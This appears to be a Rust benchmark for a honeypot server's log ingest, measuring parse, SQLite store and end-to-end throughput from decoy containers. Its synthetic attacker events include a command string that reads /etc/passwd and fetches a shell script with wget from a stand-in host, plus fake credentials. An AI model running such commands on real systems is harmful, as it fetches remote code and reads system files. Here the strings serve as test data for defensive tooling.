//! `cargo bench -p server --bench ingest`: ingest throughput into SQLite, printed.
//!
//! - parse: decoy lines/s through the per-container feed (Docker frame -> entry), no I/O;
//! - store: the real writer (batches of up to 500 lines, one transaction each, the same
//!   SQLite settings as the server) fed synthetic lines from 16 containers (a realistic mix
//!   of connect/auth/command/request/disconnect, 1% garbage); checks that nothing was lost;
//! - end to end (needs dockerd and the musl decoy binary): a `decnet serve` process, one
//!   redis decky, pipelined commands from here; time until every event is in the database.

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use decnet_server::bus::Bus;
use decnet_server::captured::{parse_query, CapturedService, Table};
use decnet_server::ingest::{spawn_writer, ContainerFeed, Cursor, Entry, IngestStats, Target};
use sea_orm::{ConnectionTrait, DatabaseConnection, Statement};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

#[path = "../tests/support/engine_cleanup.rs"]
#[allow(dead_code)]
mod engine_cleanup;

const SERVICES: [&str; 8] = [
    "ssh", "http", "ftp", "redis", "smtp", "mysql", "telnet", "imap",
];
const CONTAINERS: usize = 16;

/// Where the synthetic traffic comes from.
#[derive(Clone, Copy)]
enum Sources {
    /// 64 scanners, each hitting every container (what a flood looks like).
    Scanners,
    /// Every line from another address (the worst case for the attackers table).
    AllDistinct,
}

/// The `i`-th line of container `c`: what its decoy would print, as a Docker frame.
fn frame(c: usize, i: u64, sources: Sources) -> (Vec<u8>, &'static str) {
    let decky = format!("bench-{:02}", c / 2);
    let service = SERVICES[c % SERVICES.len()];
    let ip = match sources {
        Sources::Scanners => format!("198.51.100.{}", 1 + (i / 10) % 64),
        Sources::AllDistinct => format!("10.{}.{}.{}", 100 + c, (i / 250) % 250, 1 + i % 250),
    };
    let ts = chrono::DateTime::from_timestamp(
        1_800_000_000 + (i / 1000) as i64,
        ((i % 1000) * 1_000_000) as u32,
    )
    .unwrap_or_default();
    let common = json!({
        "ts": ts.to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
        "seq": i + 1, "decky": decky, "service": service, "src_ip": ip, "src_port": 30000 + (i % 30000),
    });
    let (kind, extra) = match i % 10 {
        0 => ("connect", json!({})),
        1..=3 => (
            "auth",
            json!({"username": format!("user{}", i % 97), "password": format!("Passw0rd!{i}"), "method": "password"}),
        ),
        4..=6 => (
            "command",
            json!({"command": format!("GET /etc/passwd{} && wget http://x/{i}.sh", i % 13)}),
        ),
        7 => (
            "request",
            json!({"method": "POST", "path": "/wp-login.php", "user_agent": "Mozilla/5.0 (bench)", "host": "blog",
                   "body": format!("log=admin&pwd=secret{i}&wp-submit=Log+In")}),
        ),
        8 => (
            "disconnect",
            json!({"duration_ms": i % 5000, "reason": "closed"}),
        ),
        _ => ("command", json!({"command": "QUIT"})),
    };
    let mut line = common;
    if let (Some(o), Some(e)) = (line.as_object_mut(), extra.as_object()) {
        o.insert("event".into(), kind.into());
        o.extend(e.clone());
    }
    let mut body = line.to_string();
    let mut kind = kind;
    if i % 100 == 99 {
        body = format!("garbage line {i}: \u{1b}[31m not json");
        kind = "raw";
    }
    let docker_ts = chrono::DateTime::from_timestamp(
        1_800_000_000 + (i / 1000) as i64,
        ((i % 1000) * 1_000_000 + c as u64) as u32,
    )
    .unwrap_or_default();
    let f = format!(
        "{} {body}\n",
        docker_ts.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true)
    );
    (f.into_bytes(), kind)
}

fn feeds() -> Vec<ContainerFeed> {
    (0..CONTAINERS)
        .map(|c| {
            let target = Target::new(
                &format!("{c:064x}"),
                &format!("bench-{:02}", c / 2),
                SERVICES[c % SERVICES.len()],
            );
            ContainerFeed::new(target, Cursor::default())
        })
        .collect()
}

async fn scalar(db: &DatabaseConnection, sql: &str) -> i64 {
    let row = db
        .query_one_raw(Statement::from_string(
            db.get_database_backend(),
            sql.to_owned(),
        ))
        .await
        .expect("query")
        .expect("row");
    row.try_get_by_index::<i64>(0).expect("integer")
}

fn bench_parse(per_container: u64) {
    let frames: Vec<Vec<Vec<u8>>> = (0..CONTAINERS)
        .map(|c| {
            (0..per_container)
                .map(|i| frame(c, i, Sources::Scanners).0)
                .collect()
        })
        .collect();
    let bytes: usize = frames.iter().flatten().map(Vec::len).sum();
    let mut feeds = feeds();
    let t = Instant::now();
    let mut n = 0u64;
    for (feed, frames) in feeds.iter_mut().zip(&frames) {
        for f in frames {
            n += u64::from(feed.frame(f).is_some());
        }
    }
    let el = t.elapsed();
    println!(
        "parse: {n} lines ({:.1} MB) in {el:.2?} = {:.0} lines/s on one core",
        bytes as f64 / 1e6,
        n as f64 / el.as_secs_f64()
    );
}

async fn bench_store(per_container: u64, sources: Sources) {
    let dir = tempfile::tempdir().expect("tempdir");
    let url = format!(
        "sqlite://{}?mode=rwc",
        dir.path().join("bench.db").display()
    );
    let db = decnet_server::db::connect(&url).await.expect("db");
    let stats = Arc::new(IngestStats::default());
    let mut expected_auth = 0u64;
    let mut expected_raw = 0u64;
    let mut entries: Vec<Vec<Entry>> = Vec::new();
    let mut feeds = feeds();
    for (c, feed) in feeds.iter_mut().enumerate() {
        let mut v = Vec::with_capacity(per_container as usize);
        for i in 0..per_container {
            let (f, kind) = frame(c, i, sources);
            expected_auth += u64::from(kind == "auth");
            expected_raw += u64::from(kind == "raw");
            v.extend(feed.frame(&f));
        }
        entries.push(v);
    }
    let total = (CONTAINERS as u64) * per_container;
    let (tx, writer) = spawn_writer(
        db.clone(),
        Bus::default(),
        "bench-host".into(),
        stats.clone(),
    );
    let t = Instant::now();
    // One task per container, as the followers are; the writer's channel paces them.
    let mut senders = Vec::new();
    for list in entries {
        let tx = tx.clone();
        senders.push(tokio::spawn(async move {
            for e in list {
                if tx.send(e).await.is_err() {
                    return;
                }
            }
        }));
    }
    drop(tx);
    for s in senders {
        let _ = s.await;
    }
    let _ = writer.await;
    let el = t.elapsed();
    let logs = scalar(&db, "SELECT COUNT(*) FROM logs").await as u64;
    let creds = scalar(&db, "SELECT COUNT(*) FROM credentials").await as u64;
    let raw = scalar(&db, "SELECT COUNT(*) FROM logs WHERE seq IS NULL").await as u64;
    let attacker_events =
        scalar(&db, "SELECT COALESCE(SUM(event_count), 0) FROM attackers").await as u64;
    let bounties = scalar(&db, "SELECT COUNT(*) FROM bounties").await;
    let batches = stats.batches.load(std::sync::atomic::Ordering::Relaxed);
    let size = std::fs::metadata(dir.path().join("bench.db"))
        .map(|m| m.len())
        .unwrap_or(0)
        + std::fs::metadata(dir.path().join("bench.db-wal"))
            .map(|m| m.len())
            .unwrap_or(0);
    let from = match sources {
        Sources::Scanners => "64 sources",
        Sources::AllDistinct => "a new source each",
    };
    println!(
        "store ({from}): {total} lines from {CONTAINERS} containers in {el:.2?} = {:.0} lines/s ({batches} transactions, {:.0} lines each)",
        total as f64 / el.as_secs_f64(),
        total as f64 / batches.max(1) as f64
    );
    println!(
        "       stored {logs} log rows ({raw} raw), {creds} credentials, {bounties} bounties; database {:.1} MB",
        size as f64 / 1e6
    );
    let ok = logs == total
        && creds == expected_auth
        && raw == expected_raw
        && attacker_events == total - raw;
    println!(
        "       nothing lost: {} (expected {total} rows, {expected_auth} credentials, {expected_raw} raw; attackers count {attacker_events} events)",
        if ok { "yes" } else { "NO" }
    );
    assert!(ok, "ingest lost or invented rows");
    if matches!(sources, Sources::Scanners) {
        read_and_purge(&db).await;
    }
}

/// What reading and purging cost on the table the store bench filled.
async fn read_and_purge(db: &DatabaseConnection) {
    let captured = CapturedService::new(db.clone());
    let timed = |label: &'static str, query: &'static str| {
        let captured = &captured;
        async move {
            let (filter, page) = parse_query(Table::Logs, Some(query)).expect("query");
            let mut times = Vec::new();
            let mut total = 0;
            for _ in 0..5 {
                let t = Instant::now();
                total = captured.logs(&filter, &page).await.expect("logs").total;
                times.push(t.elapsed());
            }
            times.sort();
            println!(
                "       GET /logs {label:<28} {:>8.2?} (median of 5; total {total})",
                times[2]
            );
        }
    };
    timed("(first page of 100)", "").await;
    timed("?decky=bench-03", "decky=bench-03").await;
    timed("?src_ip=198.51.100.7", "src_ip=198.51.100.7").await;
    timed("?service=ftp&offset=5000", "service=ftp&offset=5000").await;
    let t = Instant::now();
    let deleted = captured.purge_all().await.expect("purge");
    println!(
        "purge_all: {} logs, {} credentials, {} bounties, {} attackers deleted in {:.2?} (one transaction)",
        deleted.logs,
        deleted.credentials,
        deleted.bounties,
        deleted.attackers,
        t.elapsed()
    );
}

struct Proc(Child);

impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn decoy() -> std::path::PathBuf {
    let target = std::env::var_os("CARGO_TARGET_DIR")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target"));
    target.join("x86_64-unknown-linux-musl/release/decnet-decoy")
}

async fn json_of(r: reqwest::RequestBuilder) -> Value {
    r.send().await.expect("request").json().await.expect("json")
}

async fn bench_end_to_end(commands: usize, conns: usize) {
    if !std::path::Path::new("/var/run/docker.sock").exists() || !decoy().is_file() {
        println!(
            "end to end: skipped (needs dockerd and {})",
            decoy().display()
        );
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let mut child = Command::new(env!("CARGO_BIN_EXE_decnet"))
        .args(["serve", "--listen", "127.0.0.1:0"])
        .arg("--data-dir")
        .arg(dir.path())
        .env("DECNET_ADMIN_PASSWORD", "bench initial pass")
        .env("DECNET_DECOY_BIN", decoy())
        .env("DECNET_LOG", "warn")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("decnet");
    let mut line = String::new();
    if let Some(out) = child.stdout.take() {
        let _ = BufReader::new(out).read_line(&mut line);
    }
    let _proc = Proc(child);
    let api = format!(
        "{}/api/v1",
        line.trim().trim_start_matches("decnet listening on ")
    );
    let http = reqwest::Client::new();
    let login = json_of(
        http.post(format!("{api}/auth/login"))
            .json(&json!({"username": "admin", "password": "bench initial pass"})),
    )
    .await;
    let first = login["access_token"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let settled = json_of(
        http.post(format!("{api}/auth/change-password"))
            .bearer_auth(&first)
            .json(&json!({"old_password": "bench initial pass", "new_password": "bench settled passphrase"})),
    )
    .await;
    let token = settled["access_token"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let ini = "[general]\nnet=10.232.9.0/24\ngw=10.232.9.1\n[ingest-bench]\nservices=redis\n";
    let r = json_of(
        http.post(format!("{api}/deckies/deploy"))
            .bearer_auth(&token)
            .json(&json!({"ini_content": ini})),
    )
    .await;
    let ids: Vec<String> = r["lifecycle_ids"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default();
    let deadline = Instant::now() + Duration::from_secs(90);
    let host = loop {
        let q: Vec<(&str, &str)> = ids.iter().map(|i| ("ids", i.as_str())).collect();
        let v = json_of(
            http.get(format!("{api}/deckies/lifecycle"))
                .bearer_auth(&token)
                .query(&q),
        )
        .await;
        let row = &v["rows"][0];
        if row["status"] == "succeeded" {
            break row["host_uuid"].as_str().unwrap_or_default().to_owned();
        }
        if row["status"] == "failed" || Instant::now() > deadline {
            println!("end to end: skipped, the decky did not come up: {row}");
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let _cleanup = Cleanup(host);
    let ip = "10.232.9.2";

    let t0 = Instant::now();
    let mut tasks = Vec::new();
    for c in 0..conns {
        tasks.push(tokio::spawn(async move {
            // The decoy serves at most 1000 commands per connection: open a new one per 900.
            let (mut answered, mut connections) = (0usize, 0usize);
            let mut left = commands / conns;
            while left > 0 {
                let n = left.min(900);
                left -= n;
                connections += 1;
                answered += pipeline(ip, c, connections, n).await;
            }
            (answered, connections)
        }));
    }
    let (mut answered, mut connections) = (0, 0);
    for t in tasks {
        let (a, n) = t.await.unwrap_or((0, 0));
        answered += a;
        connections += n;
    }
    let emitted = t0.elapsed();
    // connect + one command event each + disconnect.
    let expected = (answered + 2 * connections) as u64;
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut stored = 0;
    while Instant::now() < deadline {
        let v = json_of(http.get(format!("{api}/logs?limit=1")).bearer_auth(&token)).await;
        stored = v["total"].as_u64().unwrap_or(0);
        if stored >= expected {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let all = t0.elapsed();
    let mut kinds = Vec::new();
    for kind in ["connect", "command", "disconnect", "raw"] {
        let v = json_of(
            http.get(format!("{api}/logs?limit=1&event={kind}"))
                .bearer_auth(&token),
        )
        .await;
        kinds.push(format!("{kind} {}", v["total"]));
    }
    println!(
        "end to end: {answered} redis commands on {connections} connections ({conns} at a time); the decoy answered them in {emitted:.2?} ({:.0} commands/s)",
        answered as f64 / emitted.as_secs_f64()
    );
    println!(
        "            all {stored}/{expected} events stored {all:.2?} after the first ({:.0} events/s; {:.0?} behind the decoy)",
        stored as f64 / all.as_secs_f64(),
        all.saturating_sub(emitted)
    );
    println!(
        "            by kind: {} (exact: {})",
        kinds.join(", "),
        if stored == expected { "yes" } else { "NO" }
    );
    assert_eq!(stored, expected, "end to end lost or duplicated events");
}

/// `n` pipelined `GET`s on one connection; returns how many were answered.
async fn pipeline(ip: &'static str, worker: usize, conn: usize, n: usize) -> usize {
    let Ok(s) = tokio::net::TcpStream::connect((ip, 6379)).await else {
        return 0;
    };
    let (mut r, mut w) = s.into_split();
    let writer = tokio::spawn(async move {
        let mut buf = Vec::new();
        for i in 0..n {
            let key = format!("k{worker}:{conn}:{i}");
            buf.extend_from_slice(
                format!("*2\r\n$3\r\nGET\r\n${}\r\n{key}\r\n", key.len()).as_bytes(),
            );
        }
        let _ = w.write_all(&buf).await;
        w
    });
    // Every GET answers one line (`$-1`): count them.
    let mut got = 0usize;
    let mut buf = vec![0u8; 64 * 1024];
    while got < n {
        match r.read(&mut buf).await {
            Ok(0) | Err(_) => break,
            Ok(k) => got += buf[..k].iter().filter(|b| **b == b'\n').count(),
        }
    }
    drop(writer.await);
    got
}

/// Removes the bench's containers and network even when it fails.
struct Cleanup(String);

impl Drop for Cleanup {
    fn drop(&mut self) {
        engine_cleanup::remove_host(&self.0);
    }
}

fn main() {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("runtime");
    println!("## ingest");
    bench_parse(12_500);
    rt.block_on(bench_store(12_500, Sources::Scanners));
    rt.block_on(bench_store(6_250, Sources::AllDistinct));
    rt.block_on(bench_end_to_end(40_000, 8));
}
